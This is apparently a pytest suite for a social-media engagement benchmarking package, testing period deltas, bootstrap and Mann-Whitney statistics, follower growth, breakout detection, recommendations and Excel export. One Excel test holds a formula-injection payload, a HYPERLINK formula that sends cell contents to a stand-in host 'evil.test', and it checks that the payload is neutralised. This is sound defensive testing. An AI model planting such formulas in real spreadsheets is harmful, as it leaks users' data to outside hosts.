"""Statistics for period comparisons (issue #9): known answers, hand-computed where possible."""

from __future__ import annotations

import math
from datetime import UTC, date, datetime, timedelta

import numpy as np
import pandas as pd
import pytest

from benchmark.metrics import recommend, stats, trend
from benchmark.metrics.recommend import Recommendation, recommendations
from benchmark.metrics.stats import (
    bootstrap_median_ci,
    bootstrap_median_diff_ci,
    bootstrap_medians,
    breakout_accounts,
    breakout_posts,
    compare_er,
    er_comparisons,
    follower_growth,
    median_change_table,
    median_ci_table,
)
from benchmark.metrics.trend import metric_deltas, previous_period, trend_summary, trend_table
from benchmark.report.xlsx import safe_cell, sheet_names, write_xlsx


# -- periods ------------------------------------------------------------------------------------------------
def test_previous_period_of_a_quarter_has_the_same_length_not_the_previous_quarter():
    # 2026Q3 has 92 days; 2026Q2 (2026-04-01..06-30) has only 91.
    assert previous_period(date(2026, 7, 1), date(2026, 9, 30)) == (date(2026, 3, 31), date(2026, 6, 30))


@pytest.mark.parametrize(("start", "end", "expected"), [
    (date(2026, 1, 1), date(2026, 3, 31), (date(2025, 10, 3), date(2025, 12, 31))),  # 90 days
    (date(2026, 3, 1), date(2026, 3, 31), (date(2026, 1, 29), date(2026, 2, 28))),  # 31 days
    (date(2026, 5, 5), date(2026, 5, 5), (date(2026, 5, 4), date(2026, 5, 4))),  # one day
])
def test_previous_period_ends_the_day_before_and_is_as_long(start, end, expected):
    prev = previous_period(start, end)
    assert prev == expected
    assert (prev[1] - prev[0]).days == (end - start).days


def test_previous_period_rejects_a_reversed_period():
    with pytest.raises(ValueError, match="after it ends"):
        previous_period(date(2026, 2, 1), date(2026, 1, 1))


# -- metric deltas and trends -------------------------------------------------------------------------------
def tidy(rows):
    return pd.DataFrame(rows, columns=["platform", "account_id", "label", "role", "metric", "value", "n"])


def test_metric_deltas_adds_previous_delta_relative_and_too_few():
    current = tidy([
        ("weibo", "1", "Own", "own", "er_median", 0.012, 120),
        ("weibo", "1", "Own", "own", "question_share", 0.10, 8),
        ("weibo", "2", "Peer", "peer", "er_median", 0.020, 50),
        ("weibo", "3", "New", "peer", "er_median", 0.030, 50),
        ("weibo", "1", "Own", "own", "posts", 5.0, 5),
    ])
    previous = tidy([
        ("weibo", "1", "Own", "own", "er_median", 0.010, 100),
        ("weibo", "1", "Own", "own", "question_share", 0.20, 40),
        ("weibo", "2", "Peer", "peer", "er_median", 0.0, 9),
        ("weibo", "1", "Own", "own", "posts", 50.0, 50),
    ])
    out = metric_deltas(current, previous).set_index(["account_id", "metric"])
    own = out.loc[("1", "er_median")]
    assert own["previous_value"] == 0.010 and own["previous_n"] == 100
    assert own["delta"] == pytest.approx(0.002)
    assert own["relative_delta"] == pytest.approx(0.2)
    assert not own["too_few"]
    assert out.loc[("1", "question_share"), "too_few"]  # current n = 8
    peer = out.loc[("2", "er_median")]
    assert peer["too_few"]  # previous n = 9
    assert math.isnan(peer["relative_delta"])  # previous value 0: no relative change
    assert peer["delta"] == pytest.approx(0.020)
    new = out.loc[("3", "er_median")]
    assert math.isnan(new["previous_value"]) and math.isnan(new["delta"]) and new["too_few"]
    assert not out.loc[("1", "posts"), "too_few"]  # a count of posts is exact, never "too few"
    assert len(out) == len(current)


def test_metric_deltas_matches_ids_read_back_as_numbers():
    current = tidy([("weibo", "1001", "Own", "own", "er_median", 0.02, 30)])
    previous = tidy([("weibo", 1001, "Own", "own", "er_median", 0.01, 30)])
    assert metric_deltas(current, previous)["delta"].iloc[0] == pytest.approx(0.01)


def test_trend_table_orders_periods_and_takes_deltas_between_neighbours():
    q1 = tidy([("weibo", "1", "Own", "own", "er_median", 0.010, 20), ("weibo", "2", "P", "peer", "er_median", 0.02, 20),
               ("weibo", "1", "Own", "own", "posts", 20, 20)])
    q2 = tidy([("weibo", "1", "Own", "own", "er_median", 0.015, 5)])
    q3 = tidy([("weibo", "1", "Own", "own", "er_median", 0.030, 30),
               ("weibo", "2", "P", "peer", "er_median", 0.04, 20)])
    out = trend_table({"2026Q1": q1, "2026Q2": q2, "2026Q3": q3}, ["er_median"])
    assert set(out["metric"]) == {"er_median"}
    own = out[out["account_id"] == "1"]
    assert own["period"].tolist() == ["2026Q1", "2026Q2", "2026Q3"]
    assert math.isnan(own["delta"].iloc[0])
    assert own["delta"].iloc[1:].tolist() == pytest.approx([0.005, 0.015])
    assert own["relative_delta"].iloc[2] == pytest.approx(1.0)
    assert own["too_few"].tolist() == [False, True, True]  # Q2 rests on 5 posts, so do both of its changes
    peer = out[out["account_id"] == "2"]
    assert peer["period"].tolist() == ["2026Q1", "2026Q3"]
    assert math.isnan(peer["delta"].iloc[1])  # missing from Q2: Q1 -> Q3 is not a quarter-on-quarter change


def test_trend_summary_gives_own_and_role_medians_per_period():
    q1 = tidy([("weibo", "1", "Own", "own", "er_median", 0.01, 20),
               ("weibo", "2", "P1", "peer", "er_median", 0.02, 20),
               ("weibo", "3", "P2", "peer", "er_median", 0.04, 20),
               ("weibo", "4", "X", "exemplar", "er_median", 0.09, 20)])
    summary = trend_summary(trend_table({"2026Q1": q1}, ["er_median"]))
    by_series = summary.set_index("series")["value"]
    assert by_series["Own"] == 0.01
    assert by_series["peers (median)"] == pytest.approx(0.03)
    assert by_series["exemplars (median)"] == 0.09
    assert summary.set_index("series").loc["peers (median)", "accounts"] == 2


# -- bootstrap ----------------------------------------------------------------------------------------------
def test_bootstrap_is_reproducible_with_a_seed_and_differs_with_another():
    values = np.random.default_rng(7).lognormal(size=300)
    first = bootstrap_median_ci(values, seed=42)
    assert bootstrap_median_ci(values, seed=42) == first
    assert bootstrap_median_ci(values, seed=43) != first


@pytest.mark.parametrize("n", [51, 300])  # odd and even n
def test_bootstrap_interval_contains_the_sample_median(n):
    values = np.random.default_rng(n).exponential(size=n)
    low, high = bootstrap_median_ci(values, seed=1)
    assert low < np.median(values) < high


def test_bootstrap_interval_is_wider_for_a_smaller_sample():
    rng = np.random.default_rng(3)
    small, large = rng.normal(size=40), rng.normal(size=4000)
    width = [h - lo for lo, h in (bootstrap_median_ci(small, seed=0), bootstrap_median_ci(large, seed=0))]
    assert width[0] > 3 * width[1]  # the width shrinks like 1/sqrt(n): about 10x here


@pytest.mark.parametrize(("level", "z"), [(0.95, 1.959964), (0.80, 1.281552)])
def test_bootstrap_interval_has_the_textbook_width_for_a_large_normal_sample(level, z):
    # The sample median of N(0, 1) has standard error sqrt(pi / 2) / sqrt(n) = 0.012533 for n = 10,000.
    values = np.random.default_rng(12).normal(size=10_000)
    low, high = bootstrap_median_ci(values, n_boot=20_000, seed=2, level=level)
    assert (high - low) / 2 == pytest.approx(z * math.sqrt(math.pi / 2) / 100, rel=0.1)
    if level == 0.95:
        assert bootstrap_median_ci(values, n_boot=20_000, seed=2) == (low, high)  # 95 % is the default


def test_bootstrap_of_a_constant_is_the_constant():
    assert bootstrap_median_ci([0.25] * 40, seed=5) == (0.25, 0.25)
    assert bootstrap_median_ci([3.0], seed=5) == (3.0, 3.0)


def test_bootstrap_ignores_missing_values_and_is_undefined_without_any():
    values = np.array([1.0, np.nan, 2.0, 3.0, np.inf, 4.0, 5.0])
    assert bootstrap_median_ci(values, seed=9) == bootstrap_median_ci([1.0, 2.0, 3.0, 4.0, 5.0], seed=9)
    low, high = bootstrap_median_ci([np.nan], seed=9)
    assert math.isnan(low) and math.isnan(high)


@pytest.mark.parametrize("n", [7, 8, 101, 100])
def test_order_statistic_draws_match_literal_resampling(n):
    """The fast sampler and the index-matrix bootstrap give the same distribution of medians (odd and even n)."""
    from scipy.stats import ks_2samp

    values = np.random.default_rng(n).lognormal(size=n)
    fast = bootstrap_medians(values, n_boot=4000, rng=np.random.default_rng(1))
    slow = bootstrap_medians(values, n_boot=4000, rng=np.random.default_rng(2), method="resample",
                             chunk_elements=10_000)
    assert ks_2samp(fast, slow).pvalue > 0.01
    assert np.mean(fast) == pytest.approx(np.mean(slow), rel=0.05)
    sorted_values = np.sort(values)
    allowed = set(sorted_values) if n % 2 else {(a + b) / 2 for a in sorted_values for b in sorted_values}
    assert set(np.round(fast, 12)) <= set(np.round(list(allowed), 12))


def test_median_difference_interval_finds_a_real_shift_and_not_a_fake_one():
    rng = np.random.default_rng(11)
    before = rng.normal(10, 2, size=500)
    low, high = bootstrap_median_diff_ci(before + 3, before, seed=4)
    assert 2 < low < 3 < high < 4
    low, high = bootstrap_median_diff_ci(rng.normal(10, 2, size=500), before, seed=4)
    assert low < 0 < high
    assert bootstrap_median_diff_ci(before + 3, before, seed=4) == bootstrap_median_diff_ci(before + 3, before, seed=4)


def posts_frame(er_by_acct: dict[int, list[float]]) -> pd.DataFrame:
    rows = [(acct, f"{acct}-{i}", er, er * 1000) for acct, ers in er_by_acct.items() for i, er in enumerate(ers)]
    return pd.DataFrame(rows, columns=["acct", "post_id", "er", "engagement"])


def test_median_ci_table_per_account_is_reproducible_and_independent_of_the_panel():
    rng = np.random.default_rng(5)
    a, b = list(rng.exponential(size=60)), list(rng.exponential(size=8))
    table = median_ci_table(posts_frame({0: a, 1: b}), seed=3)
    assert len(table) == 4
    own = table[(table["acct"] == 0) & (table["metric"] == "er_median")].iloc[0]
    assert own["value"] == pytest.approx(np.median(a)) and own["n"] == 60 and not own["too_few"]
    assert own["ci_low"] < own["value"] < own["ci_high"]
    assert table[table["acct"] == 1]["too_few"].all()
    alone = median_ci_table(posts_frame({0: a}), seed=3)
    pd.testing.assert_frame_equal(alone, table[table["acct"] == 0].reset_index(drop=True))


def test_median_change_table_verdicts():
    rng = np.random.default_rng(8)
    base = rng.normal(0.02, 0.004, size=200)
    current = posts_frame({0: list(base + 0.01), 1: list(base), 2: [0.1] * 5})
    previous = posts_frame({0: list(base), 1: list(rng.permutation(base)), 2: [0.1] * 50})
    out = median_change_table(current, previous, columns={"er_median": "er"}, seed=1).set_index("acct")
    assert out.loc[0, "verdict"] == "up" and out.loc[0, "delta"] == pytest.approx(0.01)
    assert out.loc[0, "ci_low"] > 0
    assert out.loc[1, "verdict"] == "no clear change"
    assert out.loc[2, "verdict"] == "too few posts to tell"
    assert (out.loc[2, "n_current"], out.loc[2, "n_previous"]) == (5, 50)


# -- Mann-Whitney -------------------------------------------------------------------------------------------
def test_same_distribution_is_no_clear_difference():
    rng = np.random.default_rng(2026)
    own, other = rng.lognormal(-4, 1, size=200), rng.lognormal(-4, 1, size=300)
    result = compare_er(own, other)
    assert result["p_value"] > 0.05
    assert result["verdict"] == "no clear difference"
    assert (result["n_own"], result["n_other"]) == (200, 300)
    identical = compare_er(own, own)
    assert identical["p_value"] == pytest.approx(1.0) and identical["effect"] == pytest.approx(0.0)


def test_shifted_distributions_are_significant_in_the_right_direction():
    rng = np.random.default_rng(1)
    low, high = rng.lognormal(-5, 0.5, size=60), rng.lognormal(-4, 0.5, size=60)
    up, down = compare_er(high, low), compare_er(low, high)
    assert up["verdict"] == "higher" and up["p_value"] < 0.001 and up["effect"] > 0.5
    assert down["verdict"] == "lower" and down["effect"] == pytest.approx(-up["effect"])


def test_u_and_effect_sizes_by_hand():
    own = np.arange(10, 20, dtype=float)  # every own post beats every other post
    other = np.arange(0, 10, dtype=float)
    result = compare_er(own, other)
    assert result["u"] == 100 and result["effect"] == 1.0 and result["common_language"] == 1.0
    # own = other + one tie: U = pairs won + half the ties; here 0..9 vs 9..18 -> one tie (9 vs 9)
    tied = compare_er(np.arange(0, 10, dtype=float), np.arange(9, 19, dtype=float))
    assert tied["u"] == 0.5 and tied["common_language"] == pytest.approx(0.005)


def test_mann_whitney_is_bit_identical_to_scipy():
    # compare_er computes the test without scipy.stats (a second to import); its values must not move.
    from scipy.stats import mannwhitneyu

    rng = np.random.default_rng(19)
    for case in range(300):
        n1, n2 = (int(n) for n in rng.integers(9, 300, 2))
        if case % 3 == 0:  # many ties
            x, y = rng.integers(0, 5, n1).astype(float), rng.integers(0, 6, n2).astype(float)
        elif case % 3 == 1:
            x, y = rng.lognormal(-4, 1, n1), rng.lognormal(-3.9, 1, n2)
        else:
            x, y = np.round(rng.lognormal(0, 1, n1), 2), np.round(rng.lognormal(0, 1, n2), 3)
        expected = mannwhitneyu(x, y, alternative="two-sided")
        assert stats.mann_whitney(x, y) == (float(expected.statistic), float(expected.pvalue))


def test_fewer_than_ten_posts_is_too_few_to_tell_with_no_p_value():
    result = compare_er(np.linspace(0, 1, 9), np.linspace(5, 6, 200))
    assert result["verdict"] == "too few posts to tell"
    assert result["p_value"] is None and result["u"] is None and result["effect"] is None
    assert result["n_own"] == 9
    with_nans = compare_er([*np.linspace(0, 1, 9), np.nan, np.nan], np.linspace(5, 6, 200))
    assert with_nans["verdict"] == "too few posts to tell"  # missing ER does not count as a post


def test_all_equal_values_are_no_difference_not_an_error():
    result = compare_er([0.0] * 20, [0.0] * 30)
    assert result["p_value"] == 1.0 and result["verdict"] == "no clear difference"


def test_er_comparisons_pairs_own_with_peers_and_exemplars_of_its_platform():
    rng = np.random.default_rng(4)
    posts = posts_frame({0: list(rng.normal(1, 0.1, 50)), 1: list(rng.normal(2, 0.1, 50)),
                         2: list(rng.normal(1, 0.1, 5)), 3: list(rng.normal(0.5, 0.1, 50)),
                         4: list(rng.normal(9, 0.1, 50))})
    accounts = pd.DataFrame({"acct": [0, 1, 2, 3, 4], "platform": ["weibo"] * 4 + ["bluesky"],
                             "label": ["Own", "Peer A", "Peer B", "Model", "Elsewhere"],
                             "role": ["own", "peer", "peer", "exemplar", "exemplar"]})
    out = er_comparisons(posts, accounts).set_index("other_label")
    assert list(out.index) == ["Peer A", "Peer B", "Model"]  # the Bluesky exemplar is not compared
    assert out.loc["Peer A", "verdict"] == "lower"
    assert out.loc["Peer B", "verdict"] == "too few posts to tell"
    assert out.loc["Model", "verdict"] == "higher"
    assert out.loc["Model", "other_role"] == "exemplar"


# -- follower growth ----------------------------------------------------------------------------------------
def snapshots(rows):
    return pd.DataFrame(rows, columns=["platform", "account_id", "crawled_at", "followers"])


def test_follower_growth_by_hand():
    t0 = datetime(2026, 7, 3, 8, 0)
    snaps = snapshots([
        ("weibo", "1", t0, 1000), ("weibo", "1", t0 + timedelta(days=5), 1100),
        ("weibo", "1", t0 + timedelta(days=14), 1210),
        ("weibo", "1", datetime(2026, 10, 5), 5000),  # after the period: ignored
    ])
    row = follower_growth(snaps, date(2026, 7, 1), date(2026, 9, 30)).iloc[0]
    assert row["snapshots"] == 3 and row["days"] == 14
    assert row["absolute"] == 210
    assert row["relative"] == pytest.approx(0.21)
    assert row["weekly_rate"] == pytest.approx(0.10)  # 1.21 ** (7/14) = 1.1
    assert row["note"] == ""


def test_one_snapshot_gives_a_note_not_a_number():
    snaps = snapshots([("weibo", "1", datetime(2026, 7, 3), 1000), ("weibo", "2", datetime(2026, 7, 3), 10),
                       ("weibo", "2", datetime(2026, 7, 4), 20)])
    accounts = pd.DataFrame({"platform": ["weibo"] * 3, "account_id": ["1", "2", "3"]})
    out = follower_growth(snaps, date(2026, 7, 1), date(2026, 9, 30), accounts=accounts).set_index("account_id")
    assert math.isnan(out.loc["1", "weekly_rate"]) and math.isnan(out.loc["1", "relative"])
    assert out.loc["1", "note"] == "one snapshot only: crawl again later in the quarter to measure growth"
    assert out.loc["2", "weekly_rate"] == pytest.approx(2.0 ** 7 - 1)
    assert "less than a week" in out.loc["2", "note"]
    assert out.loc["3", "snapshots"] == 0 and out.loc["3", "note"].startswith("no snapshot in the period")


def test_follower_growth_accepts_aware_bounds_and_the_report_frame_keyed_by_acct():
    snaps = pd.DataFrame({"acct": [0, 0], "followers": [100.0, 150.0],
                          "crawled_at": [datetime(2026, 6, 30, 17), datetime(2026, 7, 30, 17)]})
    # 2026-07-01 00:00 in Shanghai is 2026-06-30 16:00 UTC, so the first snapshot is in the period.
    start = datetime(2026, 7, 1, tzinfo=UTC) - timedelta(hours=8)
    out = follower_growth(snaps, start, datetime(2026, 10, 1, tzinfo=UTC) - timedelta(hours=8))
    assert out.iloc[0]["relative"] == pytest.approx(0.5) and out.iloc[0]["days"] == 30
    assert follower_growth(snaps, date(2026, 7, 1), date(2026, 9, 30)).iloc[0]["snapshots"] == 1


# -- breakouts ------------------------------------------------------------------------------------------------
def test_breakout_z_scores_by_hand():
    # 11 posts: ten at ER 0.01 and one at 0.12. Mean = 0.02; sample SD = sqrt((10·0.01² + 0.1²)/10)
    # = sqrt(0.0011) = 0.0331662…; z of the big post = 0.10 / 0.0331662 = 3.01511.
    ers = [0.01] * 10 + [0.12]
    posts = posts_frame({0: ers, 1: [0.01] * 9 + [0.5]})
    posts["url"] = "https://example.test/" + posts["post_id"]
    out = breakout_posts(posts)
    assert out["post_id"].tolist() == ["0-10"]
    row = out.iloc[0]
    assert row["account_mean"] == pytest.approx(0.02)
    assert row["account_sd"] == pytest.approx(math.sqrt(0.0011))
    assert row["z"] == pytest.approx(0.10 / math.sqrt(0.0011))
    assert row["url"] == "https://example.test/0-10" and row["n_posts"] == 11
    assert breakout_posts(posts, sd=3.1).empty


def test_accounts_with_few_posts_are_not_tested_and_say_so():
    posts = posts_frame({0: [0.01] * 10 + [0.12], 1: [0.01] * 8 + [0.5], 2: [0.03] * 12})
    summary = breakout_accounts(posts).set_index("acct")
    assert summary.loc[0, "breakouts"] == 1 and summary.loc[0, "tested"]
    assert not summary.loc[1, "tested"] and "fewer than 10 posts" in summary.loc[1, "note"]
    assert summary.loc[1, "breakouts"] == 0
    assert not summary.loc[2, "tested"] and "same engagement rate" in summary.loc[2, "note"]
    assert summary.loc[0, "threshold"] == pytest.approx(0.02 + 3 * math.sqrt(0.0011))
    # Account 1's 0.5 post is 2.67 SD above its mean: a breakout at 2 SD only if 9 posts were enough.
    assert "1-8" not in set(breakout_posts(posts, sd=2.0)["post_id"])
    assert "1-8" in set(breakout_posts(posts, sd=2.0, min_n=9)["post_id"])


# -- recommendations -------------------------------------------------------------------------------------------
def hand_built_panel():
    """Own (acct 0) vs two exemplars on Weibo and one on Bluesky, with known gaps."""
    labels = {0: ("weibo", "own1", "Own", "own"), 1: ("weibo", "ex1", "Xiaomi", "exemplar"),
              2: ("weibo", "ex2", "Smartisan", "exemplar"), 3: ("bluesky", "ex3", "Faraway", "exemplar")}
    values = {
        # metric: (own, ex1, ex2, ex3); n = 100 everywhere except where noted
        "fan_repost_share": (0.005, 0.05, 0.18, 0.40),  # best on Weibo = 0.18; gap (0.18-0.005)/0.18 = 0.972
        "er_median": (0.002, 0.004, 0.003, 0.5),  # best 0.004 (Bluesky is another scale) -> 0.5
        "question_share": (0.08, 0.10, 0.09, 0.9),  # best 0.10 -> 0.2
        "purpose_share.sales": (0.40, 0.10, 0.30, 0.0),  # lower is better: (0.40-0.10)/0.40 = 0.75
        "format_diversity": (0.20, 0.70, 0.60, 0.1),  # best 0.70 -> 0.714
        "format_share.text": (0.96, 0.3, 0.5, 1.0),
        "format_share.image": (0.04, 0.4, 0.5, 0.0),
        "format_share.video": (0.0, 0.3, 0.0, 0.0),
        "conversation_ratio": (0.5, 0.52, 0.1, 0.1),  # gap 0.038 < 10 %: not recommended
        "replies_to_others_share": (math.nan, math.nan, math.nan, 0.3),  # undefined on Weibo
        "comment_reply_rate": (0.0, 0.9, 0.5, 0.5),  # own rests on 3 comments: skipped
    }
    rows = []
    for metric, vals in values.items():
        for acct, value in enumerate(vals):
            n = 3 if (metric == "comment_reply_rate" and acct == 0) else 100
            rows.append((acct, *labels[acct], metric, value, n))
    metrics = pd.DataFrame(rows, columns=["acct", "platform", "account_id", "label", "role", "metric", "value", "n"])
    posts = pd.DataFrame([
        # acct, post_id, kind, format, er, engagement, comments, fan_repost, reply_to_others, has_question, purpose
        (2, "s1", "repost", "text", 0.02, 20, 1, True, False, False, None),
        (2, "s2", "quote", "text", 0.05, 50, 3, True, False, False, None),
        (2, "s3", "repost", "text", 0.01, 10, 0, False, False, False, None),  # not a fan
        (2, "s4", "repost", "image", 0.03, 30, 2, True, False, False, None),
        (2, "s5", "repost", "image", 0.04, 40, 2, True, False, False, None),
        (1, "x1", "original", "video", 0.09, 90, 9, False, False, True, "brand"),
        (1, "x2", "original", "image", 0.08, 80, 5, False, False, False, "sales"),
        (1, "x3", "original", "video", 0.07, 70, 4, False, False, False, "communication"),
        (1, "x4", "original", "text", 0.06, 60, 3, False, False, True, "other"),
        (0, "o1", "original", "text", 0.001, 1, 0, False, False, False, "sales"),
    ], columns=["acct", "post_id", "kind", "format", "er", "engagement", "comments", "fan_repost",
                "reply_to_others", "has_question", "purpose"])
    return metrics, posts


def test_recommendations_rank_by_relative_gap_to_the_best_exemplar():
    metrics, posts = hand_built_panel()
    recs = recommendations(metrics, posts, top=5)
    assert [r.metric for r in recs] == ["fan_repost_share", "purpose_share.sales", "format_diversity",
                                        "er_median", "question_share"]
    first = recs[0]
    assert isinstance(first, Recommendation)
    assert (first.exemplar_label, first.exemplar_value, first.own_value) == ("Smartisan", 0.18, 0.005)
    assert first.relative_gap == pytest.approx(0.175 / 0.18) and first.gap == pytest.approx(0.175)
    assert first.example_post_ids == ("s2", "s5", "s4")  # fan reposts and quotes only, best ER first
    assert first.sentence == ("Smartisan reposts fans in 18.0 % of its posts; you do in 0.5 %; "
                              "here are three of Smartisan's fan reposts.")
    sales = recs[1]
    assert sales.exemplar_label == "Xiaomi" and sales.relative_gap == pytest.approx(0.75)
    assert sales.example_post_ids == ("x1", "x3", "x4")  # Xiaomi's originals that do not sell
    er = recs[3]
    assert er.exemplar_label == "Xiaomi" and er.exemplar_platform == "weibo"  # not the Bluesky exemplar
    assert er.relative_gap == pytest.approx(0.5)


def test_format_recommendation_shows_formats_own_rarely_uses():
    metrics, posts = hand_built_panel()
    rec = next(r for r in recommendations(metrics, posts) if r.metric == "format_diversity")
    assert rec.exemplar_label == "Xiaomi"
    assert rec.example_post_ids == ("x1", "x2", "x3")  # video and image: own is 96 % text
    assert "formats you rarely use" in rec.sentence and "mostly text (96 %)" in rec.sentence


def test_recommendations_top_limits_and_skips_small_or_thin_gaps():
    metrics, posts = hand_built_panel()
    recs = recommendations(metrics, posts, top=2)
    assert [r.metric for r in recs] == ["fan_repost_share", "purpose_share.sales"]
    all_recs = {r.metric for r in recommendations(metrics, posts, top=20)}
    assert "conversation_ratio" not in all_recs  # 4 % behind: below the 10 % minimum
    assert "comment_reply_rate" not in all_recs  # own value rests on 3 comments
    assert "replies_to_others_share" not in all_recs  # undefined for the own account
    assert recommendations(metrics[metrics["role"] != "exemplar"], posts) == []


def test_recommendations_work_with_csv_shaped_frames_keyed_by_account_id():
    metrics, posts = hand_built_panel()
    ids = {0: "own1", 1: "ex1", 2: "ex2", 3: "ex3"}
    posts = posts.assign(platform=posts["acct"].map(lambda a: "bluesky" if a == 3 else "weibo"),
                         account_id=posts["acct"].map(ids)).drop(columns="acct")
    recs = recommendations(metrics.drop(columns="acct"), posts)
    assert recs[0].metric == "fan_repost_share" and recs[0].example_post_ids == ("s2", "s5", "s4")


def test_every_recommendation_metric_has_a_direction_and_a_sentence():
    assert set(recommend.HIGHER_IS_BETTER).isdisjoint(recommend.LOWER_IS_BETTER)
    metrics, _ = hand_built_panel()
    for metric in recommend.RECOMMENDATION_METRICS:
        text = recommend._sentence(metric, "X", 0.5, 0.1, (), metrics.pivot_table(
            index="acct", columns="metric", values="value", dropna=False), 0, 0)
        assert text.endswith(".") and "X" in text


# -- Excel ----------------------------------------------------------------------------------------------------
def test_xlsx_round_trip_neutralises_formulas(tmp_path):
    from openpyxl import load_workbook

    hostile = pd.DataFrame({
        "post_id": ["1", "2", "3", "4"],
        "text": ['=HYPERLINK("http://evil.test/?"&A1,"click")', "+1 buy now", "@SUM(A1:A2)", "plain 文本"],
        "er": [0.0123, np.nan, -0.5, 1.0],
        "created_at": [pd.Timestamp("2026-07-01 08:00", tz="Asia/Shanghai"), pd.NaT,
                       pd.Timestamp("2026-07-02"), pd.Timestamp("2026-07-03")],
        "hashtags": [["a", "b"], [], None, ["c"]],
        "flag": [True, False, True, False],
    })
    sheets = {"Posts: top/ER [Q3]": hostile, "=evil": pd.DataFrame({"-x": [1]}),
              "a" * 40: pd.DataFrame({"v": [1.5]}), "A" * 40: pd.DataFrame({"v": [2.5]})}
    path = write_xlsx(tmp_path / "out" / "report.xlsx", sheets)
    book = load_workbook(path)
    assert book.sheetnames == ["Posts_ top_ER _Q3_", "=evil", "a" * 31, "A" * 27 + " (2)"]
    sheet = book["Posts_ top_ER _Q3_"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("post_id", "text", "er", "created_at", "hashtags", "flag")
    assert rows[1][1] == '\'=HYPERLINK("http://evil.test/?"&A1,"click")'
    assert sheet["B2"].data_type == "s"  # text, not a formula
    assert rows[2][1] == "'+1 buy now" and rows[3][1] == "'@SUM(A1:A2)" and rows[4][1] == "plain 文本"
    assert rows[1][2] == 0.0123 and rows[2][2] is None and rows[3][2] == -0.5  # numbers stay numbers
    assert rows[1][3] == datetime(2026, 7, 1, 0, 0) and rows[2][3] is None  # Shanghai 08:00 = 00:00 UTC
    assert rows[1][4] == "['a', 'b']" and rows[3][4] is None
    assert rows[1][5] is True
    assert all(cell.data_type != "f" for ws in book.worksheets for row in ws.iter_rows() for cell in row)
    assert book["=evil"]["A1"].value == "'-x"


def test_sheets_longer_than_excel_allows_are_cut_with_a_note(tmp_path, monkeypatch):
    from openpyxl import load_workbook

    from benchmark.report import xlsx

    monkeypatch.setattr(xlsx, "EXCEL_MAX_ROWS", 6)
    book = load_workbook(write_xlsx(tmp_path / "long.xlsx", {"long": pd.DataFrame({"i": range(10)})}))
    rows = [r[0] for r in book["long"].iter_rows(values_only=True)]
    assert rows == ["i", 0, 1, 2, 3, "… 6 more rows left out: Excel's limit is 6 rows"]


def test_sheet_names_are_excel_safe_and_unique():
    names = sheet_names(["History", "'quoted'", "", "x" * 31, "X" * 31, "a:b", "a?b"])
    assert names == ["History_", "quoted", "Sheet", "x" * 31, "X" * 27 + " (2)", "a_b", "a_b (2)"]
    assert all(len(n) <= 31 for n in names)


def test_safe_cell_drops_control_characters_and_caps_length():
    assert safe_cell("a\x00b\x1bc\nd") == "abc\nd"
    assert len(safe_cell("y" * 40_000)) == 32_767
    assert safe_cell(float("inf")) == "inf" and safe_cell(pd.NA) is None and safe_cell(np.int64(3)) == 3
    assert safe_cell("\t=1") == "'\t=1"


def test_modules_export_what_they_document():
    for module in (stats, trend):
        for name in getattr(module, "__all__", []):
            assert hasattr(module, name), name
